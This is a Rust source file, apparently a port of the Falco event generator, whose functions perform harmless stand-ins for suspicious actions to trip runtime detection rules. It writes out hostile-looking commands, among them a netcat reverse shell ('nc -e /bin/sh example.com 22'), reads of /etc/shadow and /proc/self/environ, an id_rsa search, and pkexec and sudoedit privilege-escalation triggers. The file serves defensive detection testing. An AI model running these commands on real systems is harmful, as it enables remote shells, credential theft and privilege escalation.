/// sends CA FE BA BE, the server receives it.
fn java_process_class_file_download() -> Res {
    spawn_as_copy("java", "helper.CombinedServerClient")
}

fn helper_combined_server_client() -> Res {
    let server = UdpSocket::bind("127.0.0.1:1234")?;
    server.set_read_timeout(Some(Duration::from_secs(2)))?;
    let client = UdpSocket::bind("127.0.0.1:0")?;
    client.connect("127.0.0.1:1234")?;
    client.send(&[0xCA, 0xFE, 0xBA, 0xBE])?;
    let mut buf = [0u8; 16];
    let n = server.recv(&mut buf)?;
    if buf.get(..n) != Some(&[0xCA, 0xFE, 0xBA, 0xBE][..]) {
        return fail("the server did not receive the class-file magic");
    }
    Ok(Outcome::Done)
}

/// `kubectl` from PATH, or else a tiny shell script named `kubectl` (0755) written to a
/// temporary directory and executed.
fn kubernetes_client_tool() -> Res {
    if let Some(k) = look_path("kubectl") {
        run(Command::new(k).arg0("kubectl"))?;
        return Ok(Outcome::Done);
    }
    let dir = action_dir("KubernetesClientToolLaunchedInContainer")?;
    let k = dir.join("kubectl");
    let r = (|| -> Res {
        let mut f = OpenOptions::new()
            .write(true)
            .create_new(true)
            .mode(0o755)
            .open(&k)?;
        f.write_all(b"#!/bin/sh\necho kubectl\n")?;
        drop(f);
        run_accepting(Command::new(&k).stdout(Stdio::null()), &[])
    })();
    let _ = fs::remove_dir_all(&dir);
    r
}

/// `wget -V`; a failure is ignored.
fn launch_ingress_remote_file_copy() -> Res {
    let mut wget = need!("wget");
    run_limit(wget.arg("-V").stderr(Stdio::null()), Duration::from_secs(2))?;
    Ok(Outcome::Done)
}

/// `apk version`, or `apt-get --version` without apk; skipped without either.
fn launch_package_management() -> Res {
    if let Some(apk) = look_path("apk") {
        run(Command::new(apk).arg0("apk").arg("version"))?;
    } else if let Some(apt) = look_path("apt-get") {
        run(Command::new(apt).arg0("apt-get").arg("--version"))?;
    } else {
        return Ok(Outcome::Skipped("neither apk nor apt-get in PATH".into()));
    }
    Ok(Outcome::Done)
}

/// `scp` with no arguments; its failure is ignored.
fn launch_remote_file_copy() -> Res {
    let mut scp = need!("scp");
    run(&mut scp)?;
    Ok(Outcome::Done)
}

/// `nmap -sn 192.168.1.0/24` with a 1 s limit; failure ignored.
fn launch_network_tool_in_container() -> Res {
    let mut nmap = need!("nmap");
    run_limit(nmap.args(["-sn", "192.168.1.0/24"]), Duration::from_secs(1))?;
    Ok(Outcome::Done)
}

/// `nmap -sn 172.17.0.1/32` with a 1 s limit; failure ignored (host only).
fn launch_network_tool_on_host() -> Res {
    let mut nmap = need!("nmap");
    run_limit(nmap.args(["-sn", "172.17.0.1/32"]), Duration::from_secs(1))?;
    Ok(Outcome::Done)
}

/// mkdir of a temporary directory under /bin (created if missing), removed; permission denied
/// is ignored.
fn mkdir_binary_dirs() -> Res {
    let r = fs::create_dir_all("/bin")
        .and_then(|()| {
            mkdir_temp(
                Path::new("/bin"),
                "falco-event-generator-syscall-MkdirBinaryDirs-",
            )
        })
        .and_then(fs::remove_dir);
    match r {
        Err(e) if !denied(&e) => Err(e.into()),
        _ => Ok(Outcome::Done),
    }
}

/// Renames /bin/true to `/bin/true.falco-event-generator-syscall-ModifyBinaryDirs-<random>` and
/// back; permission denied is ignored.
fn modify_binary_dirs() -> Res {
    let to = format!(
        "/bin/true.falco-event-generator-syscall-ModifyBinaryDirs-{}",
        rand_suffix()
    );
    match fs::rename("/bin/true", &to) {
        Ok(()) => {
            fs::rename(&to, "/bin/true")?;
            Ok(Outcome::Done)
        }
        Err(e) if denied(&e) => Ok(Outcome::Done),
        Err(e) => Err(e.into()),
    }
}

/// open("/proc/self/fd/1", O_WRONLY), closed; skipped when refused.
fn modify_container_entrypoint() -> Res {
    match OpenOptions::new().write(true).open("/proc/self/fd/1") {
        Ok(_) => Ok(Outcome::Done),
        Err(e) if denied(&e) => Ok(Outcome::Skipped(format!("/proc/self/fd/1: {e}"))),
        Err(e) => Err(e.into()),
    }
}

/// A comment line written to `.bashrc` in a new temporary directory (O_CREAT|O_WRONLY|O_TRUNC).
fn modify_shell_configuration_file() -> Res {
    let dir = action_dir("ModifyShellConfigurationFile")?;
    let r = OpenOptions::new()
        .write(true)
        .create(true)
        .truncate(true)
        .open(dir.join(".bashrc"))
        .and_then(|mut f| f.write_all(b"# written by falco-event-generator\n"));
    let _ = fs::remove_dir_all(&dir);
    r?;
    Ok(Outcome::Done)
}

/// With CAP_SYS_ADMIN, `mount -o` in a child in new mount and user namespaces; the mount
/// command's failure is ignored.
fn mount_launched_in_privileged_container() -> Res {
    if !has_cap(cap_eff_via_shell()?, CAP_SYS_ADMIN) {
        return Ok(Outcome::Skipped("CAP_SYS_ADMIN is not effective".into()));
    }
    let mount = need!("mount");
    let mut cmd = mount;
    cmd.arg("-o").stderr(Stdio::null());
    in_new_namespaces(&mut cmd);
    run(&mut cmd)?;
    Ok(Outcome::Done)
}

/// `nc -e /bin/sh example.com 22` with a 1 s limit; failure ignored.
fn netcat_remote_code_execution() -> Res {
    let mut nc = need!("nc");
    run_limit(
        nc.args(["-e", "/bin/sh", "example.com", "22"]),
        Duration::from_secs(1),
    )?;
    Ok(Outcome::Done)
}

/// Re-executes itself through a symlink `child`; the child calls setuid(daemon), then
/// setuid(0).
fn non_sudo_setuid() -> Res {
    if spawned() {
        return setuid_daemon_then_root();
    }
    spawn_as_symlink("child", "syscall.NonSudoSetuid", &[])
}

fn setuid_daemon_then_root() -> Res {
    let (uid, _) = lookup_user("daemon")?;
    match nix::unistd::setuid(Uid::from_raw(uid)) {
        Ok(()) | Err(nix::Error::EPERM) => {}
        Err(e) => return fail(format!("setuid({uid}): {e}")),
    }
    // back to root: refused once the first call succeeded, and that attempt is the signal
    let _ = nix::unistd::setuid(Uid::from_raw(0));
    Ok(Outcome::Done)
}

/// socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL)), closed.
fn packet_socket_created_in_container() -> Res {
    use nix::sys::socket::{AddressFamily, SockFlag, SockProtocol, SockType, socket};
    drop(socket(
        AddressFamily::Packet,
        SockType::Raw,
        SockFlag::empty(),
        SockProtocol::EthAll,
    )?);
    Ok(Outcome::Done)
}

/// Runs `cmd` as the `daemon` user (uid and gid switched for the child).
fn as_daemon(cmd: &mut Command) -> Result<&mut Command, Fail> {
    let (uid, gid) = lookup_user("daemon")?;
    Ok(cmd.uid(uid).gid(gid))
}

/// `pkexec` with no arguments as `daemon`; exit 127 (patched pkexec) is a skip.
fn polkit_cve_2021_4034() -> Res {
    let mut pkexec = need!("pkexec");
    let st = run(as_daemon(&mut pkexec)?)?;
    match st.code() {
        Some(127) => Ok(Outcome::Skipped("pkexec exited 127 (patched)".into())),
        _ => Ok(Outcome::Done),
    }
}

/// `sh -c id` with GLIBC_TUNABLES=glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2.
fn glibc_tunables() -> Res {
    need!("sh");
    need!("id");
    run_accepting(
        Command::new("sh")
            .args(["-c", "id"])
            .env(
                "GLIBC_TUNABLES",
                "glibc.tune.hwcaps=-WAITED,glibc.tune.secrets=2",
            )
            .stdout(Stdio::null()),
        &[],
    )
}

/// `curl http://example.com` with HTTP_PROXY="http://my.http.proxy.com " (trailing space);
/// curl's failure is the action's.
fn program_run_with_http_proxy_env() -> Res {
    let mut curl = need!("curl");
    run_accepting(
        curl.arg("http://example.com")
            .env("HTTP_PROXY", "http://my.http.proxy.com "),
        &[],
    )
}

/// `sleep 3600` whose child requests PTRACE_TRACEME before exec (it stops at the exec), then
/// killed and reaped.
fn ptrace_anti_debug_attempt() -> Res {
    let sleep = need!("sleep");
    let mut cmd = sleep;
    cmd.arg("3600").stdin(Stdio::null());
    #[expect(unsafe_code, reason = "pre_exec: the forked child asks to be traced")]
    // SAFETY: the closure runs in the forked child before exec and only makes the ptrace
    // system call (async-signal-safe, no allocation, no lock).
    unsafe {
        cmd.pre_exec(|| nix::sys::ptrace::traceme().map_err(std::io::Error::from));
    }
    let mut child = cmd.spawn()?;
    let _ = child.kill();
    child.wait()?;
    Ok(Outcome::Done)
}

/// `sleep 3600`, ptrace(PTRACE_ATTACH) to it, detach, kill, reap.
fn ptrace_attached_to_process() -> Res {
    let mut sleep = need!("sleep");
    let mut child = sleep.arg("3600").stdin(Stdio::null()).spawn()?;
    let pid = Pid::from_raw(i32::try_from(child.id()).map_err(|e| Fail(e.to_string()))?);
    let r = nix::sys::ptrace::attach(pid).and_then(|()| {
        nix::sys::wait::waitpid(pid, Some(nix::sys::wait::WaitPidFlag::__WALL))?;
        nix::sys::ptrace::detach(pid, None::<Signal>)
    });
    let _ = child.kill();
    child.wait()?;
    r?;
    Ok(Outcome::Done)
}

/// `cat /proc/self/environ`.
fn read_environment_from_proc_files() -> Res {
    let mut cat = need!("cat");
    run_accepting(cat.arg("/proc/self/environ").stdout(Stdio::null()), &[])
}

/// A symlink `httpd` to this binary runs `ReadSensitiveFileUntrusted` after `--sleep 6s`: a
/// trusted server program opens /etc/shadow well after its startup (Falco's `proc_is_new` is
/// 5 s).
fn read_sensitive_file_trusted_after_startup() -> Res {
    spawn_as_symlink(
        "httpd",
        "syscall.ReadSensitiveFileUntrusted",
        &["--sleep", "6s"],
    )
}

/// open("/etc/shadow", O_RDONLY), closed.
fn read_sensitive_file_untrusted() -> Res {
    File::open("/etc/shadow")?;
    Ok(Outcome::Done)
}

/// An empty `.bashrc` in a new temporary directory, opened again read-only.
fn read_shell_configuration_file() -> Res {
    let dir = action_dir("ReadShellConfigurationFile")?;
    let p = dir.join(".bashrc");
    let r = go_create(&p).and_then(|f| {
        drop(f);
        File::open(&p)?.read(&mut [0u8; 1])
    });
    let _ = fs::remove_dir_all(&dir);
    r?;
    Ok(Outcome::Done)
}

/// Go's `os.Create`: O_RDWR|O_CREAT|O_TRUNC, mode 0666 (Rust's `File::create` opens write-only,
/// which rules testing `evt.is_open_read` tell apart).
fn go_create(path: impl AsRef<Path>) -> std::io::Result<File> {
    fs::OpenOptions::new()
        .read(true)
        .write(true)
        .create(true)
        .truncate(true)
        .mode(0o666)
        .open(path)
}

/// A temporary directory under /home with `.ssh` (0755) holding an empty `known_hosts`, removed.
fn read_ssh_information() -> Res {
    let dir = mkdir_temp(
        Path::new("/home"),
        "falco-event-generator-syscall-ReadSshInformation-",
    )?;
    let r = fs::DirBuilder::new()
        .mode(0o755)
        .create(dir.join(".ssh"))
        .and_then(|()| go_create(dir.join(".ssh/known_hosts")));
    let _ = fs::remove_dir_all(&dir);
    r?;
    Ok(Outcome::Done)
}

/// A temporary file with some bytes, then `shred -u <file>`.
fn remove_bulk_data_from_disk() -> Res {
    let mut shred = need!("shred");
    let (mut f, p) = create_temp(
        &std::env::temp_dir(),
        "falco-event-generator-syscall-RemoveBulkDataFromDisk-",
    )?;
    f.write_all(b"bulk data written by falco-event-generator\n")?;
    drop(f);
    let r = run_accepting(shred.arg("-u").arg(&p), &[]);
    let _ = fs::remove_file(&p);
    r
}

/// A symlink `httpd` to this binary, executed; it runs `sh -c "ls > /dev/null"`.
fn run_shell_untrusted() -> Res {
    spawn_as_symlink("httpd", "helper.RunShell", &[])
}

fn helper_run_shell() -> Res {
    need!("sh");
    run_accepting(Command::new("sh").args(["-c", "ls > /dev/null"]), &[])
}

/// `crontab -l`; exit 1 (no crontab) is accepted.
fn schedule_cron_jobs() -> Res {
    let mut crontab = need!("crontab");
    run_accepting(crontab.arg("-l").stderr(Stdio::null()), &[1])
}

/// `find $TMPDIR -maxdepth 1 -iname id_rsa` (finds nothing).
fn search_private_keys_or_passwords() -> Res {
    let mut find = need!("find");
    run_accepting(
        find.arg(std::env::temp_dir())
            .args(["-maxdepth", "1", "-iname", "id_rsa"]),
        &[],
    )
}

/// A temporary file, `chmod u+s <file>`, removed.
fn set_setuid_or_setgid_bit() -> Res {
    let mut chmod = need!("chmod");
    let (f, p) = create_temp(
        &std::env::temp_dir(),
        "falco-event-generator-syscall-SetSetuidOrSetgidBit-",
    )?;
    drop(f);
    let r = run_accepting(chmod.arg("u+s").arg(&p), &[]);
    let _ = fs::remove_file(&p);
    r
}

/// `sudoedit -u daemon -s 'ls\'` as `daemon`; exit 1 (patched sudo) is a skip.
fn sudo_potential_privilege_escalation() -> Res {
    let mut sudoedit = need!("sudoedit");
    let st = run(as_daemon(sudoedit.args(["-u", "daemon", "-s", "ls\\"]))?)?;
    match st.code() {
        Some(1) => Ok(Outcome::Skipped("sudoedit exited 1 (patched)".into())),
        _ => Ok(Outcome::Done),
    }
}

/// A symlink `sha1sum` to this binary, executed; it connects a UDP socket to 10.2.3.4:8192.
fn system_procs_network_activity() -> Res {
    spawn_as_symlink("sha1sum", "helper.NetworkActivity", &[])
}

fn helper_network_activity() -> Res {
    let s = UdpSocket::bind(SocketAddr::from(([0, 0, 0, 0], 0)))?;
    s.connect(SocketAddr::from(([10, 2, 3, 4], 8192)))?;
    Ok(Outcome::Done)
}

/// /bin/login as `daemon`; exit 1 is accepted.
fn system_user_interactive() -> Res {
    if !Path::new("/bin/login").is_file() {
        return Ok(Outcome::Skipped("/bin/login not found".into()));
    }
    run_accepting(
        as_daemon(
            Command::new("/bin/login")
                .stdout(Stdio::null())
                .stderr(Stdio::null()),
        )?,
        &[1],
    )
}

/// `nc -u example.com 22` with a 1 s limit; failure ignored.
fn unexpected_udp_traffic() -> Res {
    let mut nc = need!("nc");
    run_limit(nc.args(["-u", "example.com", "22"]), Duration::from_secs(1))?;
    Ok(Outcome::Done)
}

/// Re-executes itself through a symlink `child`; the child calls setuid(daemon), then
/// userfaultfd.
fn userfaultfd() -> Res {
    if spawned() {
        return userfaultfd_as_daemon();
    }
    spawn_as_symlink(
        "child",
        "syscall.UnprivilegedDelegationOfPageFaultsHandlingToAUserspaceProcess",
        &[],
    )
}

fn userfaultfd_as_daemon() -> Res {
    let (uid, _) = lookup_user("daemon")?;
    nix::unistd::setuid(Uid::from_raw(uid)).map_err(|e| Fail(format!("setuid({uid}): {e}")))?;
    #[expect(unsafe_code, reason = "userfaultfd has no safe wrapper")]
    // SAFETY: userfaultfd(flags) takes one integer and returns a new descriptor or -1; no
    // memory is passed. A descriptor it returns is closed at once.
    let fd = unsafe { libc::syscall(libc::SYS_userfaultfd, 0 as libc::c_int) };
    if fd >= 0 {
        let _ = nix::unistd::close(i32::try_from(fd).unwrap_or(-1));
    }
    Ok(Outcome::Done)
}

/// On the host: a symlink `vipw` to this binary, executed; it executes /bin/ls.
fn user_mgmt_binaries() -> Res {
    spawn_as_symlink("vipw", "helper.ExecLs", &[])
}

fn write_below(dir: &str, name: &str) -> Res {
    create_temp_in(dir, &format!("falco-event-generator-syscall-{name}-"))?;
    Ok(Outcome::Done)
}

/// A new temporary file under /bin (created if missing), removed.
fn write_below_binary_dir() -> Res {
    write_below("/bin", "WriteBelowBinaryDir")
}

/// A new temporary file under /etc (created if missing), removed.
fn write_below_etc() -> Res {
    write_below("/etc", "WriteBelowEtc")
}

/// A new temporary file under /lib (created if missing), removed.
fn write_below_monitored_dir() -> Res {
    write_below("/lib", "WriteBelowMonitoredDir")
}

/// A new temporary file under /root (created if missing), removed.
fn write_below_root() -> Res {
    write_below("/root", "WriteBelowRoot")
}

/// A new temporary file under /var/lib/rpm (created if missing), removed.
fn write_below_rpm_database() -> Res {
    write_below("/var/lib/rpm", "WriteBelowRpmDatabase")
}

// ---------------------------------------------------------------------------------------------
// extras (ours)

/// For "Redirect STDOUT/STDIN to Network Connection in Container" (stable; upstream once had an
/// action for it): a loopback TCP connection, whose accepted end is `dup2`ed onto standard
/// output (one `dup2` returning 1 on an IPv4 socket, what the rule asks for), then standard
/// output is restored from a saved copy (a `dup2` of a pipe or file: not a socket).
fn redirect_stdout_to_network_connection() -> Res {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let client = std::net::TcpStream::connect(listener.local_addr()?)?;
    let (server, _) = listener.accept()?;
    let saved = nix::unistd::dup(std::io::stdout().as_fd())?;
    let redirected = nix::unistd::dup2_stdout(&server);
    let restored = nix::unistd::dup2_stdout(&saved);
    drop(client);
    redirected?;
    restored?;
    Ok(Outcome::Done)
}

/// For "Linux Kernel Module Injection Detected" (stable, needs CAP_SYS_MODULE): `init_module` of
/// an image that is no ELF module, which the kernel refuses (ENOEXEC or EINVAL) before loading
/// anything; the call is the signal. Skipped without CAP_SYS_MODULE.
fn linux_kernel_module_injection() -> Res {
    if !has_cap(cap_eff()?, CAP_SYS_MODULE) {
        return Ok(Outcome::Skipped("CAP_SYS_MODULE is not effective".into()));
    }
    let image = b"not an ELF kernel module, written by rampart-eventgen\0";
    match nix::kmod::init_module(image, c"") {
        Ok(()) => fail("the kernel accepted a bogus module image"),
        Err(_) => Ok(Outcome::Done),
    }
}
